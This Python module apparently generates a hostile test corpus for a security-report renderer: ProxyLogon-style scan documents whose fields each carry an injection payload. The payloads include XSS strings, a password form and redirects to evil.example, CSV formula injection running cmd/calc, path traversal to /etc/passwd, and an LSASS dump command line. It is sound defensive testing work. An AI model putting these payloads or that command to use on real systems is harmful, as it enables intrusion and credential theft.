"""The hostile corpus: scan documents whose string fields hold, one field at a time, what an attacker
on a compromised server could write into them.

Scan data comes from the servers of compromised organisations, and the reports made from it are
opened by administrators in browsers and pasted into ticket systems. Each case here is one
organisation whose scan is an ordinary ProxyLogon finding (its observations match the shipped
indicators of Content/advisories/*/indicators.yml, so they land in the report's evidence) with one
string field replaced by one payload. The same organisation with that field set to a harmless
word is the case's baseline: anything a hostile build shows beyond its baseline came from the data.

Ids (organisation ids that name folders) are cases of their own: `refused_documents()` lists the
documents that bulletin must refuse with a located error.

Used by scripts/check-hostile.py; `python3 scripts/hostile_corpus.py DIR` writes the corpus alone.
"""
import copy
import json
import os
import sys

# One payload per kind of attack; each name says what it tries. The strings are what an attacker
# writes into a log line, a file name or an HTTP header.
PAYLOADS = {
    "script-tag": "<script>alert('bulletin-xss')</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": "\"><svg/onload=alert(2)>",
    "attribute-break-double": "\" onmouseover=\"alert(3)\" x=\"",
    "attribute-break-single": "' onfocus='alert(4)' autofocus '",
    "close-code-and-inject": "</code></li></ul><iframe src=\"https://evil.example/frame\"></iframe>",
    "style-element": "<style>body{background:url(https://evil.example/css.png)}</style>",
    "inline-style": "<p style=\"position:fixed;inset:0;background:url(https://evil.example/s.png)\">",
    "javascript-url": "javascript:alert(5)",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==",
    "html-link": "<a href=\"https://evil.example/login\">Reset your password</a>",
    "meta-refresh": "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "base-href": "<base href=\"https://evil.example/\">",
    "form": "<form action=\"https://evil.example/\"><input name=p type=password></form>",
    "entity-encoded": "&lt;script&gt;alert(7)&lt;/script&gt; &#x3C;b&#x3E;",
    "comment": "<!-- hidden --> visible --> <!--",
    "cdata-and-template": "<![CDATA[x]]> <template><script>alert(8)</script></template>",
    "markdown-link": "[Download the fix](https://evil.example/fix.exe)",
    "markdown-image": "![tracking pixel](https://evil.example/pixel.png)",
    "markdown-autolink": "<https://evil.example/auto> https://evil.example/bare www.evil.example",
    "markdown-reference": "[click][r]\n\n[r]: https://evil.example/ref",
    "markdown-raw-html": "<details open><summary>x</summary><kbd>y</kbd></details>",
    "markdown-backticks": "``` <b>fence</b> `` run ` one ````",
    "markdown-fence-block": "\n```\n<script>alert(9)</script>\n```\n",
    "markdown-table": "| injected | cell |\n| --- | --- |\n| a | b |",
    "markdown-pipes": "a|b\\|c||",
    "markdown-mentions": "@channel @admin ops@evil.example #42 GH-1",
    "markdown-heading-list": "\n# Fake heading\n- fake item\n1. fake step\n> quote\n---",
    "markdown-emphasis": "*em* __strong__ ~~strike~~ $$x$$ :warning:",
    "markdown-escapes": "\\\\[not a link\\\\](https://evil.example/esc) \\",
    "template-syntax": "{{title}} {{{stylesheet}}} {{> partials/head.html}} {{version}}",
    "bidi-override": "invoice\u202Egpj.exe and \u2066isolate\u2069 \u200F",
    "zero-width": "adm\u200Bin\u200C\u200D\uFEFFpass\u2060word",
    "control-characters": "bell\u0007 esc\u001b[31mred\u001b[0m nul\u0000 del\u007f bs\u0008 cr\rlf\nff\u000c",
    "unicode-lookalikes": "\uff1cscript\uff1e \u0430dmin \uff4aavascript:alert(10) \u2039b\u203a",
    "line-separators": "one\u2028two\u2029three\u0085four",
    "csv-formula": "=HYPERLINK(\"https://evil.example/\",\"open\")",
    "csv-formula-plus": "+cmd|' /C calc'!A0",
    "csv-formula-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-formula-tab": "\t=1+1",
    "path-traversal": "../../../etc/passwd",
    "absolute-path": "/etc",
    "windows-device": "CON",
    "windows-device-extension": "con.txt",
    "one-megabyte": "A" * (1024 * 1024 - 32) + "<script>alert(11)</script>",
}

def benign(name):
    """The harmless value put into the field for the baseline: one per payload, so that values
    that reports group by (sectors, products) make as many groups as the payloads do."""
    return "inert-sample-" + name

KNOWN_WEBSHELL = "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0"


def base_document(organisation_id):
    """An organisation with one ProxyLogon-era Exchange server whose observations match the
    shipped indicators: a known web shell, the CVE-2021-26855 proxy request, the OAB generator
    log line, the unified messaging crash, an LSASS dump, an upstream scanner's detection and a
    connection from an attacker address."""
    return {
        "format": "bulletin.scan/1",
        "scanner": {"name": "exchange-sweep", "version": "2.3.0"},
        "scanned_at": "2021-03-09T12:00:00Z",
        "organisation": {
            "id": organisation_id,
            "name": "Case " + organisation_id,
            "sector": "Local government",
            "country": "US",
            "contacts": [{"name": "IT Service Desk", "email": "servicedesk@case.example", "role": "technical"}],
            "reference": "CASE-2021-0042",
            "language": "en",
        },
        "hosts": [{
            "id": "mail01",
            "hostname": "mail01.case.example",
            "addresses": ["198.51.100.10"],
            "software": [{"product": "Exchange Server 2016", "version": "15.1.2106.2", "vendor": "Microsoft", "source": "registry"}],
            "observations": [
                {"type": "file", "time": "2021-03-03T07:02:11Z", "source": "edr",
                 "path": "C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx",
                 "sha256": KNOWN_WEBSHELL, "size": 1712, "modified": "2021-03-03T07:02:11Z"},
                {"type": "http-request", "time": "2021-03-03T07:01:58Z", "source": "HttpProxy",
                 "method": "POST", "url": "/ecp/y.js", "status": 200, "client_ip": "192.0.2.99",
                 "user_agent": "python-requests/2.25.1", "host": "mail01.case.example", "log": "HttpProxy/Ecp",
                 "fields": {"AnchorMailbox": "ServerInfo~a]@mail01.case.example:444/ecp/DDI/DDIService.svc/SetObject",
                            "RoutingHint": "X-BEResource-Cookie", "AuthenticatedUser": "NT AUTHORITY\\SYSTEM"}},
                {"type": "log-line", "time": "2021-03-03T07:05:00Z", "source": "oab", "log": "OABGeneratorLog",
                 "text": "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' removed"},
                {"type": "event", "time": "2021-03-03T07:06:00Z", "source": "Application", "channel": "Application",
                 "provider": "MSExchange Unified Messaging", "event_id": 1001, "level": "Error",
                 "message": "An unhandled exception occurred. System.InvalidCastException: cannot cast."},
                {"type": "process", "time": "2021-03-03T07:10:00Z", "source": "sysmon", "name": "rundll32.exe",
                 "command_line": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 624 C:\\root\\lsass.dmp full",
                 "parent_name": "w3wp.exe", "user": "NT AUTHORITY\\SYSTEM"},
                {"type": "detection", "time": "2021-03-03T08:00:00Z", "source": "upstream", "name": "exchange;webshell",
                 "cve": "CVE-2021-27065", "url": "https://mail01.case.example/aspnet_client/supp0rt.aspx",
                 "detail": "web shell answered the probe"},
                {"type": "connection", "time": "2021-03-03T07:00:00Z", "source": "firewall", "direction": "inbound",
                 "local_ip": "198.51.100.10", "local_port": 443, "remote_ip": "104.250.191.110",
                 "remote_port": 50412, "protocol": "tcp"},
            ],
        }],
    }


def _observation(document, kind):
    return next(o for o in document["hosts"][0]["observations"] if o["type"] == kind)


def _set(path):
    """A setter for the string at `path` (keys and indexes) of a document."""
    def setter(document, value):
        target = document
        for step in path[:-1]:
            target = target[step]
        target[path[-1]] = value
    return setter


def _in_observation(kind, key, prefix="", suffix=""):
    """A setter for an observation field that keeps the observation matching its indicator: the
    payload goes where the pattern does not look, or between the text the pattern needs."""
    def setter(document, value):
        _observation(document, kind)[key] = prefix + value + suffix
    return setter


def _field_key(document, value):
    _observation(document, "http-request")["fields"][value] = "value"


def _field_value(document, value):
    _observation(document, "http-request")["fields"]["X-Forwarded-For"] = value


def _anchor_mailbox(document, value):
    # Still `ServerInfo~%/%`, the shape of the CVE-2021-26855 request.
    _observation(document, "http-request")["fields"]["AnchorMailbox"] = "ServerInfo~" + value + "/ecp/x"


def _extra_address(document, value):
    document["hosts"][0]["addresses"].append(value)


# Every string field of the scan format, by the name a report's reader knows it by. Organisation
# ids are not here: they name folders, so hostile ones must be refused (see refused_documents).
FIELDS = {
    "organisation.name": _set(["organisation", "name"]),
    "organisation.sector": _set(["organisation", "sector"]),
    "organisation.country": _set(["organisation", "country"]),
    "organisation.reference": _set(["organisation", "reference"]),
    "organisation.language": _set(["organisation", "language"]),
    "contact.name": _set(["organisation", "contacts", 0, "name"]),
    "contact.email": _set(["organisation", "contacts", 0, "email"]),
    "contact.role": _set(["organisation", "contacts", 0, "role"]),
    "scanner.name": _set(["scanner", "name"]),
    "scanner.version": _set(["scanner", "version"]),
    "host.id": _set(["hosts", 0, "id"]),
    "host.hostname": _set(["hosts", 0, "hostname"]),
    "host.address": _extra_address,
    "software.product": _set(["hosts", 0, "software", 0, "product"]),
    "software.version": _set(["hosts", 0, "software", 0, "version"]),
    "software.vendor": _set(["hosts", 0, "software", 0, "vendor"]),
    "software.source": _set(["hosts", 0, "software", 0, "source"]),
    "file.path": _in_observation("file", "path", "C:\\inetpub\\wwwroot\\aspnet_client\\"),
    "file.source": _in_observation("file", "source"),
    "http.method": _in_observation("http-request", "method"),
    "http.url": _in_observation("http-request", "url"),
    "http.client_ip": _in_observation("http-request", "client_ip"),
    "http.user_agent": _in_observation("http-request", "user_agent"),
    "http.host": _in_observation("http-request", "host"),
    "http.log": _in_observation("http-request", "log"),
    "http.fields-key": _field_key,
    "http.fields-value": _field_value,
    "http.anchor-mailbox": _anchor_mailbox,
    "log-line.text": _in_observation("log-line", "text", "Download failed and temporary file "),
    "event.channel": _in_observation("event", "channel"),
    "event.message": _in_observation("event", "message", "System.InvalidCastException: "),
    "process.name": _in_observation("process", "name"),
    "process.command_line": _in_observation("process", "command_line", "rundll32 comsvcs.dll MiniDump 624 x.dmp "),
    "process.parent_name": _in_observation("process", "parent_name"),
    "process.user": _in_observation("process", "user"),
    "detection.cve": _in_observation("detection", "cve"),
    "detection.url": _in_observation("detection", "url"),
    "detection.detail": _in_observation("detection", "detail"),
    "connection.local_ip": _in_observation("connection", "local_ip"),
    "connection.protocol": _in_observation("connection", "protocol"),
}


# Fields outside `hosts`: each payload needs an organisation of its own.
ORGANISATION_FIELDS = [f for f in FIELDS if f.split(".")[0] in ("organisation", "contact", "scanner")]

# The 1 MB payload goes into a few fields that take each path through the renderer (index and
# briefing, host table and remediation text, evidence code spans, log fields, version
# diagnostics): in every field it would make the corpus hundreds of megabytes for no new path.
LARGE_PAYLOAD = "one-megabyte"
LARGE_FIELDS = {"organisation.name", "host.hostname", "file.path", "http.fields-value", "software.version", "process.command_line"}

# What bulletin refuses, with a located error, rather than renders: (field, payload) -> the
# diagnostic id. A host id names the host in every report line, so it has a length limit.
REFUSED = {("host.id", LARGE_PAYLOAD): "scan.invalid-host-id"}


def slug(field):
    return field.replace("_", "-").lower()


def payloads_for(field):
    return [(name, payload) for name, payload in PAYLOADS.items()
            if (name != LARGE_PAYLOAD or field in LARGE_FIELDS) and (field, name) not in REFUSED]


def documents(hostile=True, fields=None):
    """Every case as (field, organisation id, document): an organisation per payload for the
    organisation fields, and for the host fields one organisation per field with a host per
    payload. With `hostile` false, the same documents with a harmless value in the field."""
    for field in fields or FIELDS:
        chosen = payloads_for(field)
        if field in ORGANISATION_FIELDS:
            for name, payload in chosen:
                organisation_id = slug(field) + "--" + name
                yield field, organisation_id, document(organisation_id, field, payload if hostile else benign(name))
            continue
        organisation_id = slug(field)
        result = base_document(organisation_id)
        template = result["hosts"][0]
        result["hosts"] = []
        for name, payload in chosen:
            host = copy.deepcopy(template)
            host["id"] = name
            single = {"hosts": [host], "organisation": result["organisation"], "scanner": result["scanner"]}
            value = payload if hostile else benign(name)
            FIELDS[field](single, value)
            result["hosts"].append(single["hosts"][0])
        yield field, organisation_id, result


def document(organisation_id, field, value):
    result = base_document(organisation_id)
    FIELDS[field](result, value)
    return result


def refused_cases():
    """(name, file bytes, diagnostic id) of every case that bulletin must refuse with a located
    error with that diagnostic id."""
    result = []
    for (field, name), diagnostic in sorted(REFUSED.items()):
        result.append(("%s = %s" % (field, name), _encoded(document("refused", field, PAYLOADS[name])), diagnostic))
    for identifier in HOSTILE_ORGANISATION_IDS:
        result.append(("organisation.id = %r" % identifier, _encoded(document(identifier, "organisation.name", "Acme")),
                       "scan.invalid-organisation-id"))
    text = json.dumps(base_document("acme"), indent=2)
    result += [
        ("10,000 levels of nesting", text.replace('"language": "en"', '"language": ' + "[" * 10000 + "]" * 10000).encode(), "scan.too-deep"),
        ("invalid UTF-8", text.encode().replace(b"Case acme", b"Case \xff\xfe acme"), "scan.invalid-utf8"),
        ("a lone surrogate", text.replace("Case acme", "Case \\ud800 acme").encode(), "scan.invalid-utf8"),
        ("a huge integer", text.replace('"size": 1712', '"size": 1' + "0" * 400).encode(), "scan.number-out-of-range"),
        ("a duplicate key", text.replace('"language": "en"', '"language": "en", "language": "de"').encode(), "scan.duplicate-key"),
        ("a huge float", text.replace('"size": 1712', '"size": 1e400').encode(), None),
    ]
    return result


def _encoded(document):
    return json.dumps(document, indent=2).encode()


# Organisation ids name folders: ids that would name a folder outside the site, a device on
# Windows, or a folder that looks like another organisation's must each be a located error.
HOSTILE_ORGANISATION_IDS = [
    "../x", "..", ".", "/etc", "a/../../b", "a\\b", "CON", "con", "con.txt", "nul", "aux.json", "prn",
    "com1", "lpt9.log", "acme.", "acme ", "\u0430cme", "acme\u200b", "ac\u0301me", "",
    "x" * 65, "Acme", "acme\u0000", "acme/.",
]


def write(folder, hostile=True, fields=None):
    """Writes the corpus into `folder`, one JSON Lines file per field."""
    os.makedirs(folder, exist_ok=True)
    by_field = {}
    for field, _, result in documents(hostile, fields):
        by_field.setdefault(field, []).append(json.dumps(result, sort_keys=True))
    for field, lines in by_field.items():
        with open(os.path.join(folder, slug(field) + ".jsonl"), "w", encoding="utf-8") as handle:
            handle.write("\n".join(lines) + "\n")


if __name__ == "__main__":
    write(sys.argv[1])
